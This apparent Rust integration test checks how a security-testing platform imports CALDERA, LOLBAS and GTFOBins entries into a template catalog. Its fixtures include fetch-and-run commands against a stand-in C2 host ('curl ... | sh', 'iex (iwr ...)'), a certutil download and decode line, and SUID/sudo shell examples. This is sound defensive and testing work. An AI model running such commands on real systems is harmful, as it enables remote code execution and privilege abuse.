//! CALDERA, LOLBAS and GTFOBins in the template catalog, through the API: small fixtures
//! written here (imports, re-imports, a changed upstream file keeping local edits, the source's
//! own fields, from-template for each source, technique sets from adversary profiles), and the
//! real data of `../shared/data` when it is there (every shipped file parses or is skipped with
//! its reason, with the counts the data's READMEs give).
use crate::common::{Backend, TestApp, json_body, wait_for_run};
use crate::for_each_backend;
use serde_json::{Value, json};
use std::io::Write;
use std::path::Path;

for_each_backend!(
    fixture_sources_import_update_and_start_tests,
    the_real_sources_import_with_their_published_counts
);

const BUNDLE: &str = include_str!("../fixtures/attack-mini.json");

const CLASSIC_ABILITY: &str = r#"---
- id: aaaaaaaa-0000-4000-8000-000000000001
  name: Run a script
  description: Runs a PowerShell script from the C2 server
  tactic: execution
  technique:
    attack_id: T1059.001
    name: "Command and Scripting Interpreter: PowerShell"
  platforms:
    windows:
      psh:
        command: 'iex (iwr #{server}/script.ps1)'
        cleanup: Remove-Item script.ps1
        payloads: [script.ps1]
    linux:
      sh:
        command: 'curl -s #{server}/script.sh | sh'
"#;

/// The flat schema, a technique id with a leading space, and a tactic ATT&CK does not give
/// the technique.
const FLAT_ABILITY: &str = r#"- tactic: discovery
  technique_name: Unix Shell
  technique_id: ' T1059.004'
  name: Shell discovery
  description: Lists shells
  executors:
  - name: sh
    platform: linux
    command: cat /etc/shells
    cleanup: []
    timeout: 30
  id: bbbbbbbb-0000-4000-8000-000000000002
"#;

const BROKEN_ABILITY: &str = "- id: cccccccc-0000-4000-8000-000000000003\n  name: No technique\n  tactic: persistence\n  platforms: {linux: {sh: {command: id}}}\n";

const ADVERSARY: &str = r#"id: dddddddd-0000-4000-8000-000000000004
name: Fixture adversary
description: Runs a script, then looks around
atomic_ordering:
  - aaaaaaaa-0000-4000-8000-000000000001
  - bbbbbbbb-0000-4000-8000-000000000002
  - 9f1c2b1e0e0a4a5b8c7d6e5f4a3b2c1d # from a plugin not imported
"#;

fn certutil(description: &str) -> String {
    format!(
        r#"---
Name: Certutil.exe
Description: Windows binary used for handling certificates
Author: Oddvar Moe
Created: 2018-05-25
Commands:
  - Command: certutil.exe -urlcache -f {{REMOTEURL:.exe}} {{PATH:.exe}}
    Description: {description}
    Usecase: Download file from Internet
    Category: Download
    Privileges: User
    MitreID: T1105
    OperatingSystem: Windows 10, Windows 11
  - Command: certutil -decode {{PATH:.base64}} {{PATH}}
    Description: Decode a file and run it.
    Usecase: Run a payload
    Category: Execute
    Privileges: Administrator
    MitreID: T1059
Full_Path:
  - Path: C:\Windows\System32\certutil.exe
Detection:
  - Sigma: https://example.test/sigma/certutil.yml
  - IOC: Certutil.exe creating new files on disk
Resources:
  - Link: https://example.test/blog
"#
    )
}

const BROKEN_LOLBAS: &str =
    "---\nName: Broken.exe\nCommands:\n  - Command: broken.exe\n    Description: No technique\n";

const BASH: &str = r#"---
functions:
  shell:
  - code: |-
      bash
    contexts:
      sudo:
      unprivileged:
  file-read:
  - code: |-
      bash -c 'echo "$(</path/to/input-file)"'
    contexts:
      suid:
        code: |-
          bash -p -c 'echo "$(</path/to/input-file)"'
...
"#;

const FUNCTIONS: &str = "shell:\n  label: Shell\n  description: This executable can spawn an interactive system shell.\n  mitre:\n  - T1059\nfile-read:\n  label: File read\n  description: This executable can read data from local files.\n  mitre:\n  - T1005\n";

/// A folder's files, each part named by its path inside the folder, as the System panel's
/// folder picker sends them.
pub(crate) fn folder(files: &[(&str, &str)]) -> reqwest::multipart::Form {
    files
        .iter()
        .fold(reqwest::multipart::Form::new(), |form, (path, text)| {
            form.part(
                "files",
                reqwest::multipart::Part::bytes(text.as_bytes().to_vec())
                    .file_name((*path).to_owned()),
            )
        })
}

fn zip_of(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut buffer = std::io::Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut buffer);
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (path, bytes) in files {
            zip.start_file(path.as_str(), options).unwrap();
            zip.write_all(bytes).unwrap();
        }
        zip.finish().unwrap();
    }
    buffer.into_inner()
}

pub(crate) async fn import(
    app: &TestApp,
    token: &str,
    slug: &str,
    form: reqwest::multipart::Form,
) -> Value {
    let response = app
        .request(
            reqwest::Method::POST,
            &format!("/api/v1/system/import-{slug}"),
            Some(token),
        )
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = response.status();
    let body = json_body(response).await;
    assert_eq!(status, 202, "{body}");
    let run = wait_for_run(app, token, body["job_id"].as_str().unwrap()).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    run["result"]["report"].clone()
}

/// One template's detail.
async fn template(app: &TestApp, token: &str, id: &str) -> Value {
    let response = app
        .get(&format!("/api/v1/test-templates/{id}"), token)
        .await;
    assert_eq!(response.status(), 200, "template {id}");
    json_body(response).await
}

async fn templates(app: &TestApp, token: &str, query: &str) -> Vec<Value> {
    let page = json_body(
        app.get(&format!("/api/v1/test-templates?limit=500&{query}"), token)
            .await,
    )
    .await;
    page["items"].as_array().unwrap().clone()
}

fn by_external<'a>(items: &'a [Value], id: &str) -> &'a Value {
    items
        .iter()
        .find(|t| t["external_id"] == id)
        .unwrap_or_else(|| panic!("no template {id} in {items:?}"))
}

async fn from_template(app: &TestApp, token: &str, body: Value) -> (u16, Value) {
    let response = app
        .post_json("/api/v1/tests/from-template", token, body)
        .await;
    let status = response.status().as_u16();
    (status, json_body(response).await)
}

fn caldera_files() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "stockpile/data/abilities/execution/aaaaaaaa-0000-4000-8000-000000000001.yml",
            CLASSIC_ABILITY,
        ),
        (
            "stockpile/data/abilities/discovery/bbbbbbbb-0000-4000-8000-000000000002.yml",
            FLAT_ABILITY,
        ),
        (
            "stockpile/data/abilities/persistence/cccccccc-0000-4000-8000-000000000003.yml",
            BROKEN_ABILITY,
        ),
        (
            "stockpile/data/adversaries/dddddddd-0000-4000-8000-000000000004.yml",
            ADVERSARY,
        ),
        ("stockpile/README.md", "# not read"),
    ]
}

async fn fixture_sources_import_update_and_start_tests(backend: Backend) {
    // GTFOBins comes from its configured archive, served here as GitHub would.
    let archive = crate::atomics_import::serve_archive(zip_of(
        &[
            ("GTFOBins.github.io-master/_gtfobins/bash", BASH),
            (
                "GTFOBins.github.io-master/_gtfobins/sh",
                "---\nalias: bash\n...\n",
            ),
            ("GTFOBins.github.io-master/_data/functions.yml", FUNCTIONS),
            ("GTFOBins.github.io-master/_data/contexts.yml", "sudo: {}\n"),
            ("GTFOBins.github.io-master/index.md", "# GTFOBins"),
        ]
        .map(|(p, t)| (p.to_owned(), t.as_bytes().to_vec())),
    ))
    .await;
    let app = TestApp::start_with(
        backend,
        &[(
            "AEGIS_GTFOBINS_ARCHIVE_URL",
            format!("http://{archive}/archive.zip"),
        )],
    )
    .await;
    let admin = app.admin_token().await;
    app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
        .await;

    // CALDERA: two abilities, one skipped with its reason, one flagged, one technique set.
    let report = import(&app, &admin, "caldera", folder(&caldera_files())).await;
    assert_eq!(report["files"], 4, "the README is not sent: {report}");
    assert_eq!(report["added"], 2, "{report}");
    assert_eq!(
        report["skipped"][0]["path"],
        "data/abilities/persistence/cccccccc-0000-4000-8000-000000000003.yml"
    );
    assert!(
        report["skipped"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("names no ATT&CK technique"),
        "{report}"
    );
    assert_eq!(report["flagged"].as_array().unwrap().len(), 1, "{report}");
    assert!(
        report["flagged"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("discovery, which ATT&CK does not give T1059.004"),
        "{report}"
    );
    assert_eq!(
        report["technique_sets"],
        json!({"added": 1, "updated": 0, "unchanged": 0, "unresolved_references": 1})
    );
    let sets = json_body(app.get("/api/v1/technique-sets", &admin).await).await;
    let set = sets
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "CALDERA: Fixture adversary")
        .unwrap_or_else(|| panic!("the adversary's set: {sets}"));
    assert_eq!(set["technique_count"], 2);

    let caldera = templates(&app, &admin, "source=caldera").await;
    assert_eq!(caldera.len(), 2);
    let script = by_external(&caldera, "aaaaaaaa-0000-4000-8000-000000000001");
    assert_eq!(script["platforms"], json!(["windows", "linux"]));
    let id = script["id"].as_str().unwrap().to_owned();
    let detail = template(&app, &admin, &id).await;
    assert_eq!(detail["license"], "Apache-2.0");
    assert_eq!(
        detail["source_url"],
        "https://github.com/mitre/stockpile/blob/master/data/abilities/execution/aaaaaaaa-0000-4000-8000-000000000001.yml"
    );
    assert_eq!(detail["source_details"]["source"], "caldera");
    assert_eq!(
        detail["source_details"]["adversaries"],
        json!(["Fixture adversary"])
    );
    assert_eq!(
        detail["source_details"]["executors"][0]["payloads"],
        json!(["script.ps1"])
    );
    assert_eq!(detail["input_arguments"][0]["name"], "server");
    assert_eq!(detail["flags"], json!([]));
    let flagged = by_external(&caldera, "bbbbbbbb-0000-4000-8000-000000000002");
    let flagged = template(&app, &admin, flagged["id"].as_str().unwrap()).await;
    assert_eq!(flagged["technique_id"], "T1059.004");
    assert!(
        flagged["flags"][0]
            .as_str()
            .unwrap()
            .contains("filed under the tactic discovery"),
        "{flagged}"
    );

    // From a CALDERA ability: the platform picks the executor, facts are filled in.
    let (status, test) = from_template(
        &app,
        &admin,
        json!({"template_id": id, "platform": "linux", "input_arguments": {"server": "http://c2.test"}}),
    )
    .await;
    assert_eq!(status, 201, "{test}");
    assert_eq!(test["platform"], "linux");
    assert_eq!(
        test["command_executed"],
        "curl -s http://c2.test/script.sh | sh"
    );
    let (status, test) = from_template(
        &app,
        &admin,
        json!({"template_id": id, "platform": "windows"}),
    )
    .await;
    assert_eq!(status, 201, "{test}");
    assert_eq!(test["command_executed"], "iex (iwr #{server}/script.ps1)");
    assert!(
        test["procedure"]
            .as_str()
            .unwrap()
            .contains("# cleanup\nRemove-Item script.ps1"),
        "{test}"
    );
    let (status, body) = from_template(
        &app,
        &admin,
        json!({"template_id": id, "platform": "macos"}),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["fields"]["platform"]
            .as_str()
            .unwrap()
            .contains("no executor for macos; it runs on windows, linux"),
        "{body}"
    );

    // Re-importing the same files changes nothing, the set included.
    let again = import(&app, &admin, "caldera", folder(&caldera_files())).await;
    assert_eq!(
        (again["added"].as_u64(), again["unchanged"].as_u64()),
        (Some(0), Some(2)),
        "{again}"
    );
    assert_eq!(again["technique_sets"]["unchanged"], 1, "{again}");
    // The abilities alone: still unchanged, and the profile they were named in is kept.
    let abilities_only: Vec<(&str, &str)> = caldera_files()
        .into_iter()
        .filter(|(path, _)| !path.contains("adversaries"))
        .collect();
    let partial = import(&app, &admin, "caldera", folder(&abilities_only)).await;
    assert_eq!(partial["unchanged"], 2, "{partial}");
    assert!(partial["technique_sets"].is_null(), "{partial}");
    let detail = template(&app, &admin, &id).await;
    assert_eq!(
        detail["source_details"]["adversaries"],
        json!(["Fixture adversary"])
    );

    // LOLBAS: one template per command, placeholders as input arguments, detection hints as
    // the expected detection; a broken file is skipped with its reason.
    let lolbas_files = |description: &str| {
        vec![
            (
                "LOLBAS/yml/OSBinaries/Certutil.yml".to_owned(),
                certutil(description),
            ),
            (
                "LOLBAS/yml/OSScripts/Broken.yml".to_owned(),
                BROKEN_LOLBAS.to_owned(),
            ),
            // The same entry again under the other extension: the same upstream ids.
            (
                "LOLBAS/yml/OSBinaries/Certutil.yaml".to_owned(),
                certutil(description),
            ),
            (
                "LOLBAS/yml/YML-Template.yml".to_owned(),
                "Name: template".to_owned(),
            ),
        ]
    };
    let zip = |files: Vec<(String, String)>| {
        zip_of(
            &files
                .into_iter()
                .map(|(p, t)| (p, t.into_bytes()))
                .collect::<Vec<_>>(),
        )
    };
    let upload = |bytes: Vec<u8>| {
        reqwest::multipart::Form::new().part(
            "file",
            reqwest::multipart::Part::bytes(bytes).file_name("lolbas.zip"),
        )
    };
    let report = import(
        &app,
        &admin,
        "lolbas",
        upload(zip(lolbas_files("Download a file."))),
    )
    .await;
    assert_eq!(
        report["files"], 3,
        "the schema template is not an entry: {report}"
    );
    assert_eq!(report["added"], 2, "{report}");
    assert!(
        report["skipped"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("has no MitreID"),
        "{report}"
    );
    let duplicates = report["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| {
            s["reason"]
                .as_str()
                .unwrap()
                .contains("a second entry with the same upstream id")
        })
        .count();
    assert_eq!(duplicates, 2, "{report}");
    assert_eq!(report["unknown_techniques"], json!(["T1105"]), "{report}");
    let lolbas = templates(&app, &admin, "source=lolbas").await;
    let download = by_external(&lolbas, "OSBinaries/Certutil#1");
    assert_eq!(download["name"], "Certutil.exe: Download a file.");
    assert_eq!(download["technique_known"], false);
    let decode = by_external(&lolbas, "OSBinaries/Certutil#2").clone();
    let decode_id = decode["id"].as_str().unwrap().to_owned();
    let detail = template(&app, &admin, &decode_id).await;
    assert_eq!(detail["license"], "GPL-3.0");
    assert_eq!(
        detail["source_url"],
        "https://lolbas-project.github.io/lolbas/Binaries/Certutil/"
    );
    assert_eq!(detail["command"], "certutil -decode #{path_base64} #{path}");
    assert!(detail["elevation_required"].as_bool().unwrap());
    assert_eq!(
        detail["expected_detection"],
        "Sigma: https://example.test/sigma/certutil.yml\nIOC: Certutil.exe creating new files on disk"
    );
    assert_eq!(
        detail["source_details"]["full_paths"],
        json!([r"C:\Windows\System32\certutil.exe"])
    );
    assert_eq!(
        detail["source_details"]["original_command"],
        "certutil -decode {PATH:.base64} {PATH}"
    );

    // Local edits, then a changed upstream file: one template updated, the edits kept.
    let download_id = download["id"].as_str().unwrap().to_owned();
    let response = app
        .patch_json(
            &format!("/api/v1/test-templates/{download_id}"),
            &admin,
            json!({"severity": "high", "expected_detection": "Our EDR rule 42"}),
        )
        .await;
    assert_eq!(response.status(), 200);
    let report = import(
        &app,
        &admin,
        "lolbas",
        upload(zip(lolbas_files("Download and save a file."))),
    )
    .await;
    assert_eq!(
        (
            report["added"].as_u64(),
            report["updated"].as_u64(),
            report["unchanged"].as_u64()
        ),
        (Some(0), Some(1), Some(1)),
        "{report}"
    );
    let detail = template(&app, &admin, &download_id).await;
    assert_eq!(detail["name"], "Certutil.exe: Download and save a file.");
    assert_eq!(detail["severity"], "high");
    assert_eq!(detail["expected_detection"], "Our EDR rule 42");

    // From a LOLBAS command: placeholders are filled in, or stay as LOLBAS wrote them.
    let (status, test) = from_template(
        &app,
        &admin,
        json!({"template_id": decode_id, "input_arguments": {"path_base64": "C:\\t\\p.b64"}}),
    )
    .await;
    assert_eq!(status, 201, "{test}");
    assert_eq!(test["platform"], "windows");
    assert_eq!(
        test["command_executed"],
        "certutil -decode C:\\t\\p.b64 {PATH}"
    );

    // GTFOBins: one template per example and context, mapped by the table; aliases skipped.
    let response = app.post("/api/v1/system/import-gtfobins", &admin).await;
    assert_eq!(response.status(), 202);
    let enqueued = json_body(response).await;
    assert_eq!(enqueued["job"], "gtfobins_import");
    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(
        run["result"]["source"],
        format!("archive:http://{archive}/archive.zip")
    );
    let report = run["result"]["report"].clone();
    assert_eq!(report["files"], 3, "{report}");
    assert_eq!(report["added"], 3, "{report}");
    assert!(
        report["skipped"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("an alias of bash")
    );
    let gtfobins = templates(&app, &admin, "source=gtfobins").await;
    let mapped: Vec<(&str, &str)> = gtfobins
        .iter()
        .map(|t| {
            (
                t["external_id"].as_str().unwrap(),
                t["technique_id"].as_str().unwrap(),
            )
        })
        .collect();
    for expected in [
        ("bash/shell/1/unprivileged", "T1059.004"),
        ("bash/shell/1/sudo", "T1548.003"),
        ("bash/file-read/1/suid", "T1548.001"),
    ] {
        assert!(mapped.contains(&expected), "{expected:?} in {mapped:?}");
    }
    let suid = by_external(&gtfobins, "bash/file-read/1/suid");
    let suid_id = suid["id"].as_str().unwrap().to_owned();
    let detail = template(&app, &admin, &suid_id).await;
    assert_eq!(
        detail["command"],
        "bash -p -c 'echo \"$(</path/to/input-file)\"'"
    );
    assert_eq!(
        detail["source_details"]["techniques"],
        json!(["T1548.001", "T1005"])
    );
    assert_eq!(detail["source_details"]["aliases"], json!(["sh"]));
    assert_eq!(
        detail["source_url"],
        "https://gtfobins.github.io/gtfobins/bash/"
    );
    // The knowledge base of the fixture lacks T1548.001: a clear field error, no test.
    let (status, body) = from_template(&app, &admin, json!({"template_id": suid_id})).await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["fields"]["technique_id"]
            .as_str()
            .unwrap()
            .contains("T1548.001"),
        "{body}"
    );
    let shell = by_external(&gtfobins, "bash/shell/1/sudo");
    let (status, test) = from_template(
        &app,
        &admin,
        json!({"template_id": by_external(&gtfobins, "bash/shell/1/unprivileged")["id"]}),
    )
    .await;
    assert_eq!(status, 201, "{test}");
    assert_eq!(test["platform"], "linux");
    assert_eq!(test["technique_id"], "T1059.004");
    assert_eq!(test["procedure"], "# executor: sh\nbash");
    assert_eq!(shell["name"], "bash: Shell (Sudo)");

    // The entries without `_data/functions.yml` (the functions here are all in Aegis's
    // table): nothing changes.
    let partial = import(
        &app,
        &admin,
        "gtfobins",
        folder(&[
            ("GTFOBins.github.io/_gtfobins/bash", BASH),
            ("GTFOBins.github.io/_gtfobins/sh", "---\nalias: bash\n...\n"),
        ]),
    )
    .await;
    assert_eq!(partial["unchanged"], 3, "{partial}");

    // An admin maps file-read to credentials in files for this installation; the next import
    // applies it to that function's templates only (the SUID context still leads).
    let put = |function: &str, body: Value| {
        app.request(
            reqwest::Method::PUT,
            &format!("/api/v1/system/gtfobins-mapping/{function}"),
            Some(&admin),
        )
        .json(&body)
        .send()
    };
    let response = put(
        "file-read",
        json!({"techniques": ["t1552.001", "T1552.001"]}),
    )
    .await
    .unwrap();
    assert_eq!(response.status(), 200);
    let entry = json_body(response).await;
    assert_eq!(entry["local"], json!(["T1552.001"]));
    assert_eq!(entry["defaults"], json!(["T1005"]));
    let mapping = json_body(app.get("/api/v1/system/gtfobins-mapping", &admin).await).await;
    let functions: Vec<&str> = mapping
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["function"].as_str().unwrap())
        .collect();
    assert_eq!(functions.len(), 10, "every function but inherit: {mapping}");
    for (function, body, status) in [
        ("inherit", json!({"techniques": ["T1059"]}), 404),
        ("teleport", json!({"techniques": ["T1059"]}), 404),
        ("shell", json!({"techniques": ["TA0002"]}), 422),
        ("shell", json!({"techniques": "T1059"}), 422),
    ] {
        let response = put(function, body).await.unwrap();
        assert_eq!(response.status(), status, "{function}");
        assert!(json_body(response).await["detail"].is_string());
    }
    let overridden = import(
        &app,
        &admin,
        "gtfobins",
        folder(&[
            ("GTFOBins.github.io/_gtfobins/bash", BASH),
            ("GTFOBins.github.io/_gtfobins/sh", "---\nalias: bash\n...\n"),
        ]),
    )
    .await;
    assert_eq!(
        (
            overridden["updated"].as_u64(),
            overridden["unchanged"].as_u64()
        ),
        (Some(1), Some(2)),
        "{overridden}"
    );
    let detail = template(&app, &admin, &suid_id).await;
    assert_eq!(detail["technique_id"], "T1548.001");
    assert_eq!(
        detail["source_details"]["techniques"],
        json!(["T1548.001", "T1552.001"])
    );
    assert_eq!(detail["source_details"]["mapping"], "local_override");
    let audit = json_body(
        app.get("/api/v1/audit-logs?action=gtfobins.mapping_update", &admin)
            .await,
    )
    .await;
    assert_eq!(
        audit["items"][0]["after"]["techniques"],
        json!(["T1552.001"])
    );
    // Blank restores the table's.
    let response = put("file-read", json!({"techniques": []})).await.unwrap();
    assert_eq!(json_body(response).await["local"], json!([]));

    // The catalog's filters and stats know the sources.
    assert_eq!(
        templates(&app, &admin, "source=gtfobins&search=file%20read")
            .await
            .len(),
        1
    );
    assert_eq!(
        templates(&app, &admin, "platform=linux&source=caldera")
            .await
            .len(),
        2
    );
    let stats = json_body(app.get("/api/v1/test-templates/stats", &admin).await).await;
    assert_eq!(stats["by_source"]["caldera"], 2, "{stats}");
    assert_eq!(stats["by_source"]["lolbas"], 2, "{stats}");
    assert_eq!(stats["by_source"]["gtfobins"], 3, "{stats}");

    // Bad input: a folder without the source's files, and someone who is not an admin.
    let response = app
        .request(
            reqwest::Method::POST,
            "/api/v1/system/import-gtfobins",
            Some(&admin),
        )
        .multipart(folder(&[("notes/README.md", "# nothing")]))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 422);
    let body = json_body(response).await;
    assert!(
        body["fields"]["files"]
            .as_str()
            .unwrap()
            .contains("no GTFOBins files"),
        "{body}"
    );
    app.create_user(&admin, "bluelead", "blue_lead", "blue-lead-password")
        .await;
    let lead = app.login("bluelead", "blue-lead-password").await;
    let response = app.post("/api/v1/system/import-lolbas", &lead).await;
    assert_eq!(response.status(), 403);
    let response = app.get("/api/v1/system/gtfobins-mapping", &lead).await;
    assert_eq!(response.status(), 403);
    app.finish().await;
}

/// Every file of a shared-data folder, as a zip with the paths kept.
pub(crate) fn zip_folder(root: &Path) -> Vec<u8> {
    let mut files = Vec::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(dir) = pending.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                pending.push(path);
            } else {
                let relative = path
                    .strip_prefix(root)
                    .unwrap()
                    .to_string_lossy()
                    .into_owned();
                files.push((
                    format!("upstream/{relative}"),
                    std::fs::read(&path).unwrap(),
                ));
            }
        }
    }
    zip_of(&files)
}

async fn the_real_sources_import_with_their_published_counts(backend: Backend) {
    let shared = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data");
    let bundle = shared.join("attack/enterprise-attack.json");
    let folders = ["caldera-abilities", "lolbas", "gtfobins"].map(|f| shared.join(f));
    if !bundle.exists() || folders.iter().any(|f| !f.is_dir()) {
        eprintln!(
            "skipping: the shared data (ATT&CK, CALDERA, LOLBAS, GTFOBins) is not under {}",
            shared.display()
        );
        return;
    }
    let app = TestApp::start(backend).await;
    let admin = app.admin_token().await;
    let response = app
        .import_bundle(
            &admin,
            "enterprise-attack.json",
            std::fs::read(&bundle).unwrap(),
        )
        .await;
    assert_eq!(response.status(), 200);
    let upload = |folder: &Path| {
        reqwest::multipart::Form::new().part(
            "file",
            reqwest::multipart::Part::bytes(zip_folder(folder)).file_name("upstream.zip"),
        )
    };

    // CALDERA: 209 abilities and 27 adversary profiles; three abilities sit under a tactic
    // ATT&CK does not give their technique; 34 references lead to other plugins' abilities.
    let report = import(&app, &admin, "caldera", upload(&folders[0])).await;
    assert_eq!(report["files"], 236, "{report}");
    assert_eq!(report["added"], 209, "{report}");
    assert_eq!(report["skipped"], json!([]), "{report}");
    assert_eq!(report["unknown_techniques"], json!([]), "{report}");
    let mut flagged: Vec<String> = report["flagged"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            f["reason"]
                .as_str()
                .unwrap()
                .split(" (it gives")
                .next()
                .unwrap()
                .to_owned()
        })
        .collect();
    flagged.sort();
    assert_eq!(
        flagged,
        vec![
            "filed under the tactic credential-access, which ATT&CK does not give T1055.001",
            "filed under the tactic discovery, which ATT&CK does not give T1059.003",
            "filed under the tactic lateral-movement, which ATT&CK does not give T1564.004",
        ]
    );
    assert_eq!(
        report["technique_sets"],
        json!({"added": 27, "updated": 0, "unchanged": 0, "unresolved_references": 34})
    );

    // LOLBAS: 243 files, 482 commands, every MitreID active in ATT&CK v18.1.
    let report = import(&app, &admin, "lolbas", upload(&folders[1])).await;
    assert_eq!(report["files"], 243, "{report}");
    assert_eq!(report["added"], 482, "{report}");
    assert_eq!(report["skipped"], json!([]), "{report}");
    assert_eq!(report["unknown_techniques"], json!([]), "{report}");

    // GTFOBins: 478 entries (20 of them aliases) and functions.yml; 2,125 example contexts.
    let report = import(&app, &admin, "gtfobins", upload(&folders[2])).await;
    assert_eq!(report["files"], 479, "{report}");
    assert_eq!(report["added"], 2125, "{report}");
    let skipped = report["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), 20, "{report}");
    assert!(
        skipped
            .iter()
            .all(|s| s["reason"].as_str().unwrap().contains("an alias of"))
    );
    assert_eq!(report["unknown_techniques"], json!([]), "{report}");

    // Re-imports are all unchanged.
    for (slug, folder, count) in [
        ("caldera", &folders[0], 209),
        ("lolbas", &folders[1], 482),
        ("gtfobins", &folders[2], 2125),
    ] {
        let report = import(&app, &admin, slug, upload(folder)).await;
        assert_eq!(report["unchanged"], count, "{slug}: {report}");
        assert_eq!(
            (report["added"].as_u64(), report["updated"].as_u64()),
            (Some(0), Some(0)),
            "{slug}: {report}"
        );
    }
    let stats = json_body(app.get("/api/v1/test-templates/stats", &admin).await).await;
    assert_eq!(stats["by_source"]["caldera"], 209);
    assert_eq!(stats["by_source"]["lolbas"], 482);
    assert_eq!(stats["by_source"]["gtfobins"], 2125);
    assert_eq!(stats["unknown_technique_templates"], 0, "{stats}");
    app.finish().await;
}
